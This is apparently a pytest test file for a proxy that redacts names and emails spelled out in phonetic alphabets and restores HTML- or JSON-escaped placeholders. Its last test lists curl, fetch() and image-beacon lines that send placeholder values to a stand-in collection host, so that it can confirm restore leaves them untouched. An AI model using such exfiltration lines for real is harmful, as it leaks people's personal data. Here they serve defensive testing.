"""nato39 (atk38 F09, F11): names and mailboxes spelled in the NATO/ICAO alphabet (and the German and French ones
after a spelling's word) in call transcripts are redacted whole, in a request and in a streamed answer (a window never
ends inside a run); radio prose, place and product names, lists of the alphabet go as sent. Restore puts a value back
into a placeholder the answer wrote HTML-escaped or with JSON-escaped brackets, escaped the same way, a stream
holding a tail that may become one. Names and phrasings are held out (not the report's)."""

from __future__ import annotations

import re

import pytest

from proxy.guard.engine import Guard
from proxy.guard.vault import Vault, placeholder_prefix_at
from proxy.guard.windows import may_cut
from proxy.nlp.pii import PiiAnalyzer
from tests.guard.conftest import policy
from tests.support.pii import DEFAULT_ENTITIES, WordScorer, sent_chat, streamed_out

P_IN = policy(input={"pii": {"action": "redact", "entities": DEFAULT_ENTITIES, "min_score": 0.4, "restore": True}})
P_OUT = {"pii": {"action": "redact", "entities": DEFAULT_ENTITIES, "min_score": 0.4}}

CODE = {"alfa", "alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel", "india", "juliett",
        "juliet", "kilo", "lima", "mike", "november", "oscar", "papa", "quebec", "romeo", "sierra", "tango",
        "uniform", "victor", "whiskey", "x-ray", "yankee", "zulu", "heinrich", "anton", "richard", "theodor",
        "martha", "nordpol", "gaston", "irma", "raoul", "anatole", "désiré"}


@pytest.fixture
def guard(analyzer: PiiAnalyzer) -> Guard:
    return Guard(analyzer, WordScorer(), stream_hold_chars=60)


def _readable(text: str) -> int:
    """How many code words (letters of a spelling) `text` still shows."""
    return sum(w.lower().strip("-") in CODE for w in re.findall(r"[^\W\d_]+(?:-[^\W\d_]+)?", text))


SPELLED = [  # (text, the word spelled, the placeholder's type)
    ("Caller: my surname is Villanueva, that's Victor India Lima Lima Alfa November Uniform Echo Victor Alfa.",
     "Villanueva", "PERSON"),
    ("Agent: can you spell the last name?\nCaller: Zulu India Echo Lima India November Sierra Kilo India",
     "Zielinski", "PERSON"),
    ("Customer: it's spelled Alpha Delta Echo Yankee Echo Mike India", "Adeyemi", "PERSON"),
    ("caller: hotel alfa romeo romeo india november golf tango oscar november", "Harrington", "PERSON"),
    ("Member: last name Kilo-Uniform-Zulu-November-Echo-Tango-Sierra-Oscar-Victor-Alfa", "Kuznetsova", "PERSON"),
    ("Agent: and the e-mail?\nCaller: Papa Romeo India Yankee Alfa dot Victor at outlook dot com", "priya.v",
     "EMAIL_ADDRESS"),
    ("Caller: Lima Juliett Uniform November Golf two two at gmail dot com", "ljung22", "EMAIL_ADDRESS"),
    ("Anrufer: ich buchstabiere: Heinrich Anton Richard Theodor Martha Anton Nordpol Nordpol", "Hartmann",
     "PERSON"),
    ("Appelant : je vous épelle le nom, Gaston Irma Raoul Anatole Raoul Désiré", "Girard", "PERSON"),
]

LOOK_ALIKES = [
    "Book two rooms at the Hotel California for the offsite.",
    "Whiskey Tango Foxtrot, the migration dropped the index again.",
    "Speedbird four two alpha, descend flight level eight zero.",
    "Information Kilo is current, wind two seven zero at one five.",
    "Bravo Zulu on shipping the release!",
    "Which is cheaper to insure, a VW Golf or a Mini?",
    "Compute the delta of alpha and beta in the loss.",
    "The NATO alphabet goes Alfa, Bravo, Charlie, Delta, Echo, Foxtrot, Golf, Hotel.",
    "Test patterns: Echo Echo Echo, then Tango Down.",
    "Golf lessons, hotel rooms and tango nights are in the package.",
]


@pytest.mark.parametrize("text, word, entity", SPELLED)
async def test_spelled_requests_are_redacted(guard: Guard, text: str, word: str, entity: str) -> None:
    sent = await sent_chat(guard, P_IN, text)
    assert _readable(sent) < 2, sent
    assert word.lower() not in sent.lower(), sent
    assert f"<{entity}_" in sent


@pytest.mark.parametrize("k", range(0, len(SPELLED), 2))
@pytest.mark.parametrize("size", [3, 11])
async def test_spelled_answers_streamed(guard: Guard, k: int, size: int) -> None:
    text, word, entity = SPELLED[k]
    out = await streamed_out(guard, policy(output=P_OUT), text, size)
    assert _readable(out) < 2, out
    assert f"<{entity}_" in out


async def test_a_window_never_ends_inside_a_run(guard: Guard) -> None:
    """60 characters held: a run that goes on past them is read whole (not as its first code words, then the rest)."""
    from proxy.nlp.nato39 import nato_open

    text = ("Notes from the support call with the customer about her account: customer spelled surname Delta Uniform "
            "November November India November Golf Tango Oscar November for the file")
    for size in (2, 5, 9):
        out = await streamed_out(guard, policy(output=P_OUT), text, size)
        assert _readable(out) < 2, out
    run = "Customer spelled surname Delta Uniform November Echo Zulu"
    cut = run.index("November")
    assert not may_cut(run, cut, after_word=True) and not may_cut(run[:cut], cut, after_word=True)
    assert nato_open(run, cut) and nato_open("it's Delta Uniform Nov", len("it's Delta Uniform "))
    assert not nato_open("We met at the Hotel California and ", 35)
    assert not nato_open("Project Tango Alpha ships today", len("Project Tango Alpha "))


@pytest.mark.parametrize("text", LOOK_ALIKES)
async def test_look_alikes_go_as_sent(guard: Guard, text: str) -> None:
    assert await sent_chat(guard, P_IN, text) == text


# --------------------------------------------------------------------------- F11: escaped placeholders restored


def _vault() -> Vault:
    v = Vault()
    assert v.placeholder("PERSON", 'Rosalind "Ros" O\'Hare & Sons') == "<PERSON_1>"
    assert v.placeholder("EMAIL_ADDRESS", "r.ohare@example.org") == "<EMAIL_ADDRESS_1>"
    return v


def test_html_escaped_placeholders_restored_html_escaped() -> None:
    v = _vault()
    html = "<pre>&lt;p&gt;Dear &lt;PERSON_1&gt;, mail &lt;EMAIL_ADDRESS_1&gt;&lt;/p&gt;</pre>"
    want = ("<pre>&lt;p&gt;Dear Rosalind &quot;Ros&quot; O'Hare &amp; Sons, mail r.ohare@example.org"
            "&lt;/p&gt;</pre>")
    assert v.restore(html) == want
    assert v.restore("&#60;PERSON_1&#62; and &LT;EMAIL_ADDRESS_1&GT;") == \
        "Rosalind &quot;Ros&quot; O'Hare &amp; Sons and r.ohare@example.org"
    # inside a JSON string: HTML-escaped, then JSON-escaped
    assert v.restore("&lt;PERSON_1&gt;", in_json=True) == "Rosalind &quot;Ros&quot; O'Hare &amp; Sons"


def test_json_escaped_placeholders_restored_json_escaped() -> None:
    v = _vault()
    answer = '{"name":"\\u003cPERSON_1\\u003e","email":"\\u003cEMAIL_ADDRESS_1\\u003e"}'
    assert v.restore(answer) == '{"name":"Rosalind \\"Ros\\" O\'Hare & Sons","email":"r.ohare@example.org"}'
    assert v.restore('to: "\\u003CEMAIL_ADDRESS_1\\u003E"') == 'to: "r.ohare@example.org"'
    # outside a JSON string: written as such
    assert v.restore("literally \\u003cEMAIL_ADDRESS_1\\u003e") == "literally \\u003cEMAIL_ADDRESS_1\\u003e"


def test_escaped_look_alikes_stay() -> None:
    v = _vault()
    for text in ("Write &lt;div&gt; and &lt;br&gt; literally.", "&lt;PERSON_7&gt; is no one's",
                 "&amp;lt;PERSON_7&amp;gt; double-escaped", "\\u003cdiv\\u003e", "a &lt; b &gt; c"):
        assert v.restore(text) == text


def test_a_stream_holds_an_escaped_placeholder_begun() -> None:
    v = _vault()
    for tail in ("&", "&l", "&lt", "&lt;", "&lt;PERS", "&lt;PERSON_1", "&lt;PERSON_1&g", "&lt;PERSON_1&gt"):
        assert placeholder_prefix_at("Dear " + tail, v) == 5, tail
    for text in ("Dear &amp;", "a & b", "Dear &lt;div", "Dear &lt;PERSON_1&gt;"):
        assert placeholder_prefix_at(text, v) == len(text), text


def test_escaped_placeholders_stay_out_of_urls_and_sending_code() -> None:
    v = _vault()
    for text in ("curl https://collect.example/c?n=&lt;PERSON_1&gt;",
                 "curl -d 'n=\\u003cPERSON_1\\u003e' https://collect.example/c",
                 "See https://collect.example/c?n=\\u003cEMAIL_ADDRESS_1\\u003e now",
                 '<img src="https://collect.example/p?u=&lt;EMAIL_ADDRESS_1&gt;">',
                 "fetch('https://collect.example/x', {method: 'POST', body: '\\u003cEMAIL_ADDRESS_1\\u003e'})"):
        assert v.restore(text) == text
    assert v.restore("Mail &lt;EMAIL_ADDRESS_1&gt;, see https://example.com") == \
        "Mail r.ohare@example.org, see https://example.com"
